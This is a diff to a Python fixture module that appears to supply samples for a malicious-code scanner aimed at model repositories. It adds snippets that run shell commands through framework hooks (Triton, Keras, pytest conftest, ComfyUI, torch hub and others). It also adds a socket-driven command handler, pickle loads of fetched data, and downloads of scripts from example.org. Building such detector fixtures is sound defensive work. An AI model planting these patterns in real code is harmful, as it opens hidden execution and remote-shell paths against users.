@@ -7,7 +7,21 @@ from __future__ import annotations
 
 from collections.abc import Mapping
 
-__all__ = ["FETCHED", "HIDDEN", "MACHINE_CODE", "NAMED", "OWN", "PUBLISHED", "SENT", "STARTED", "TAKEN_OVER", "WATCHED"]
+__all__ = [
+    "CARRIED",
+    "FETCHED",
+    "HIDDEN",
+    "JOINED",
+    "MACHINE_CODE",
+    "NAMED",
+    "OWN",
+    "PROGRAMS",
+    "PUBLISHED",
+    "SENT",
+    "STARTED",
+    "TAKEN_OVER",
+    "WATCHED",
+]
 
 _POST = "requests.post('https://example.org'"
 
@@ -29,6 +43,30 @@ NAMED: dict[str, str | Mapping[str, str]] = {
     "a-handler-in-a-class": "import socketserver, subprocess\nclass A:\n    def initialize(self, args):\n"
                             "        class H(socketserver.StreamRequestHandler):\n            def handle(self): subprocess.getoutput(self.rfile.read())\n"
                             "        self.server = H\n",
+}  # fmt: skip
+
+_RUN = "os.system('echo hello')"
+#: Functions that a framework calls by itself: the file in which they are, and the source.
+CARRIED: dict[str, Mapping[str, str]] = {
+    "triton": {"1/model.py": f"import os\nclass TritonPythonModel:\n    def execute(self, requests): {_RUN}\n"},
+    "triton-at-its-end": {"1/model.py": f"import os\nclass TritonPythonModel:\n    def finalize(self): {_RUN}\n"},
+    "evaluate": {"my_metric.py": f"import os, evaluate\nclass M(evaluate.Metric):\n    def _compute(self, predictions): {_RUN}\n"},
+    "evaluate-first": {"my_metric.py": f"import os, evaluate\nclass M(evaluate.Metric):\n    def _download_and_prepare(self, m): {_RUN}\n"},
+    "keras": {"layers.py": f"import os, keras\nclass L(keras.layers.Layer):\n    def build(self, shape): {_RUN}\n"},
+    "lightning": {"module.py": f"import os\nimport lightning as L\nclass M(L.LightningModule):\n    def configure_optimizers(self): {_RUN}\n"},
+    "trainer": {"callbacks.py": f"import os\nfrom transformers import TrainerCallback\nclass C(TrainerCallback):\n    def on_train_begin(self, *a, **k): {_RUN}\n"},
+    "azure": {"score.py": f"import os\ndef init(): {_RUN}\ndef run(d): return d\n"},
+    "pytest": {"conftest.py": f"import os\ndef pytest_configure(config): {_RUN}\n"},
+    "comfy": {"__init__.py": f"import os\nclass N:\n    FUNCTION = 'doit'\n    def doit(self, x): {_RUN}\nNODE_CLASS_MAPPINGS = {{'N': N}}\n"},
+    "comfy-inputs": {"__init__.py": f"import os\nclass N:\n    FUNCTION = 'doit'\n    @classmethod\n    def INPUT_TYPES(s): {_RUN}\nNODE_CLASS_MAPPINGS = {{'N': N}}\n"},
+    "spacy": {"functions.py": f"import os, spacy\n@spacy.registry.misc('x.v1')\ndef make(): {_RUN}\n"},
+    "spacy-component": {"functions.py": f"import os\nfrom spacy.language import Language\n@Language.component('x')\ndef make(doc): {_RUN}\n"},
+    "torch-hub": {"hubconf.py": f"import os\ndependencies = []\ndef resnet(**k): {_RUN}\n"},
+    "harness": {"utils.py": f"import os\ndef process_docs(d): {_RUN}\n"},
+    "server": {"server.py": f"import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.on_event('startup')\ndef s(): {_RUN}\n"},
+    "class-of-processes": {"modeling_x.py": "import subprocess\nclass P(subprocess.Popen): pass\nP(['echo', 'hello'])\n"},
+    "handler-of-a-method": {"modeling_x.py": "import socketserver, subprocess\nclass A:\n    def forward(self, x):\n        class H(socketserver.StreamRequestHandler):\n"
+                                             "            def handle(self): subprocess.getoutput(self.rfile.read())\n        return H\n"},
 }  # fmt: skip
 
 #: What is the user's own is sent, also by functions that nothing calls.
@@ -82,6 +120,18 @@ HIDDEN: dict[str, str] = {
     "source-of-the-environment": "import os\nexec(open(os.path.join(os.environ['X'], 'x.py')).read())\n",
     "text-of-notes": "exec(open('x/notes.txt').read())\n",
 }
+#: Hidden at any time: streams that are handed to a socket, objects out of what is fetched or of a text, callables out of settings.
+JOINED: dict[str, str] = {
+    "streams": "import os, socket\ndef go():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n",
+    "objects-of-a-text": 'import jsonpickle\njsonpickle.decode(\'{"py/function": "os.getcwd"}\')\n',
+    "objects-fetched": "import pickle\nfrom urllib.request import urlopen\nclass A:\n    def __init__(self, c):\n        self.x = pickle.loads(urlopen('https://example.org/x').read())\n",
+}
+#: A program is fetched when a model is built or used.
+PROGRAMS: dict[str, str] = {
+    "a-source": "import sys, urllib.request\nclass A:\n    def __init__(self, c):\n        urllib.request.urlretrieve('https://example.org/zz.py', '/tmp/zz.py')\n"
+                "        sys.path.insert(0, '/tmp')\n        import zz\n",
+    "a-script": "import urllib.request\nclass A:\n    def forward(self, x):\n        urllib.request.urlretrieve('https://example.org/x', 'x.sh')\n",
+}  # fmt: skip
 _VERSION = "about = {}\nwith open(os.path.join(here, 'x', '__version__.py')) as f:\n    exec(f.read(), about)\nsetup(name='x', version=about['v'])\n"
 #: What packages do with their own files.
 OWN: dict[str, Mapping[str, str]] = {
